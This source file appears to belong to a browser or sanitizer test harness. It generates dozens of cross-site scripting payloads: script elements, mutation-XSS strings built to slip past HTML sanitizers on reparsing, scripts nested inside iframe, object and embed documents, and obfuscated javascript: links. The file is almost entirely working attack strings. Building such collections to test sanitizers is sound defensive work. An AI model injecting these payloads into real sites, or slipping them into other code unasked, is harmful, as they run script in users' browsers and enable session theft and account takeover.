import { asleep, ENTER, EVERYWHERE, type Payload, run, table } from './payload.js';

const JS = (bait: string): string => `javascript:${run(bait)}`;

/** Elements that hold or name a script. */
const ELEMENTS = table('script', {
  inline: (bait) => `<script>${run(bait)}</script>`,
  src: (bait) => `<script src="${bait}"></script>`,
  'data-src': (bait) => `<script src="data:text/javascript,${encodeURIComponent(run(bait))}"></script>`,
  module: (bait) => `<script type="module">${run(bait)}</script>`,
  'module-src': (bait) => `<script type="module" src="${bait}"></script>`,
  'module-import': (bait) => `<script type="module">import '${bait}'</script>`,
  nomodule: (bait) => `<script type="text/javascript" language="JavaScript1.5">${run(bait)}</script>`,
  entities: (bait) => `<svg><script>${[...run(bait)].map((c) => `&#${c.charCodeAt(0)};`).join('')}</script></svg>`,
  'svg-inline': (bait) => `<svg><script>${run(bait)}</script></svg>`,
  'svg-href': (bait) => `<svg><script href="${bait}"></script></svg>`,
  'svg-xlink': (bait) => `<svg><script xlink:href="${bait}"></script></svg>`,
  'in-math': (bait) => `<math><mtext><script>${run(bait)}</script></mtext></math>`,
  'in-foreign-object': (bait) => `<svg><foreignObject><script>${run(bait)}</script></foreignObject></svg>`,
  'in-shadow': (bait) => `<div><template shadowrootmode="open"><script>${run(bait)}</script></template></div>`,
  'in-select': (bait) => `<select><option>x</option><script>${run(bait)}</script></select>`,
  'in-table': (bait) => `<table><script>${run(bait)}</script></table>`,
});

/** Text a careless second parser would read as elements: it fires at once, or sleeps until somebody parses it again. */
const MUTATIONS = table('mutation', {
  noscript: (bait) => `<noscript><p title="</noscript><img src=data: onerror=${run(bait).replaceAll('"', '')}>"></noscript>`,
  'math-style': (bait) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data: onerror=&quot;${run(bait)}&quot;&gt;">`,
  'svg-style': (bait) => `<svg></p><style><a id="</style><img src=data: onerror=&quot;${run(bait)}&quot;>"></a></style></svg>`,
  'svg-title': (bait) => `<svg><title><style></title><img src="data:," onerror="${run(bait)}"></style></title></svg>`,
  'math-annotation': (bait) =>
    `<math><annotation-xml encoding="text/html"><img src="data:," onerror="${run(bait)}"></annotation-xml></math>`,
  cdata: (bait) => `<svg><![CDATA[><img src="data:," onerror="${run(bait)}">]]></svg><math><mi>//]]></mi></math>`,
  textarea: (bait) => `<textarea><img title="</textarea><img src=data: onerror='${run(bait).replaceAll("'", '`')}'>"></textarea>`,
  xmp: (bait) => `<xmp><p title="</xmp><img src='data:,' onerror='${run(bait).replaceAll("'", '`')}'>"></xmp>`,
  noembed: (bait) => `<noembed><p title="</noembed><img src='data:,' onerror='${run(bait).replaceAll("'", '`')}'>"></noembed>`,
  template: (bait) => `<template><p></template><img src="data:," onerror="${run(bait)}"></p></template>`,
  comment: (bait) => `<!--><img src="data:," onerror="${run(bait)}">-->`,
  'comment-bang': (bait) => `<!-- --!><img src="data:," onerror="${run(bait)}">-->`,
  'broken-tag': (bait) => `<img/src="data:,"/onerror="${run(bait)}"//>`,
  'nested-form': (bait) => `<form><div></form><form><input autofocus onfocus="${run(bait)}"></form>`,
  foreign: (bait) => `<svg><font color="x"><img src="data:," onerror="${run(bait)}"></font></svg>`,
}).map((payload) =>
  /-(?:noscript|math-style|svg-style|svg-title|cdata)$/.test(payload.name) ? { ...payload, dormant: EVERYWHERE } : payload,
);

/** Documents in documents. */
const DOCUMENTS = table('document', {
  'iframe-srcdoc': (bait) => `<iframe srcdoc="<script>${run(bait)}</script>"></iframe>`,
  'iframe-srcdoc-encoded': (bait) => `<iframe srcdoc="&lt;img src=&quot;${bait}&quot;&gt;"></iframe>`,
  'iframe-javascript': (bait) => `<iframe src="${JS(bait)}"></iframe>`,
  'iframe-javascript-spaces': (bait) => `<iframe src=" \t java\nscript:${run(bait)}"></iframe>`,
  'iframe-data': (bait) => `<iframe src="data:text/html,<script>${run(bait)}</script>"></iframe>`,
  'iframe-data-svg': (bait) =>
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${bait}'/></svg>"></iframe>`,
  'iframe-sandbox': (bait) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${run(bait)}</script>"></iframe>`,
  'object-html': (bait) => `<object data="data:text/html,<img src='${bait}'>"></object>`,
  'object-svg': (bait) =>
    `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${bait}'/></svg>"></object>`,
  'embed-html': (bait) => `<embed src="data:text/html,<img src='${bait}'>" type="text/html">`,
  'embed-svg': (bait) =>
    `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${bait}'/></svg>">`,
});

/** Addresses that run when they are followed. */
const LINKS = [
  ...table(
    'link',
    {
      javascript: (bait) => `<a href="${JS(bait)}">x</a>`,
      'javascript-case': (bait) => `<a href="JaVaScRiPt:${run(bait)}">x</a>`,
      'javascript-tab': (bait) => `<a href="java&Tab;script&colon;${run(bait)}">x</a>`,
      'javascript-control': (bait) => `<a href="&#1;&#14; javascript:${run(bait)}">x</a>`,
      'javascript-comment': (bait) => `<a href="javascript://%0a${encodeURIComponent(run(bait))}">x</a>`,
      'svg-href': (bait) => `<svg><a href="${JS(bait)}"><text y="9">x</text></a></svg>`,
      'svg-xlink': (bait) => `<svg><a xlink:href="${JS(bait)}"><text y="9">x</text></a></svg>`,
      'svg-set': (bait) => `<svg><a href="#"><set attributeName="href" to="${JS(bait)}"></set><text y="9">x</text></a></svg>`,
      area: (bait) => `<map name="m"><area href="${JS(bait)}" coords="0,0,9,9"></map><img usemap="#m" src="data:," width="9" height="9">`,
      form: (bait) => `<form action="${JS(bait)}"><button>x</button></form>`,
      formaction: (bait) => `<form><button formaction="${JS(bait)}">x</button></form>`,
      'formaction-input': (bait) => `<form><input type="submit" formaction="${JS(bait)}"></form>`,
      base: (bait) => `<base href="${JS(bait)}/"><a href="#x">x</a>`,
    },
    { keys: ENTER },
  ).map((payload) => (payload.name === 'link-base' ? { ...payload, dormant: EVERYWHERE } : payload)),
  ...table(
    'link',
    {
      'math-href': (bait) => `<math href="${JS(bait)}" id="click"><mi>xxxxxx</mi></math>`,
      'math-xlink': (bait) => `<math id="click"><mrow xlink:href="${JS(bait)}"><mi>xxxxxx</mi></mrow></math>`,
      maction: (bait) =>
        `<math id="click"><maction actiontype="statusline" xlink:href="${JS(bait)}"><mi>xxxxxx</mi><mtext>x</mtext></maction></math>`,
    },
    { click: true, dormant: EVERYWHERE },
  ),
];

export const SCRIPTS: readonly Payload[] = asleep([...ELEMENTS, ...MUTATIONS, ...DOCUMENTS, ...LINKS], { 'link-math-href': ['chromium'] });
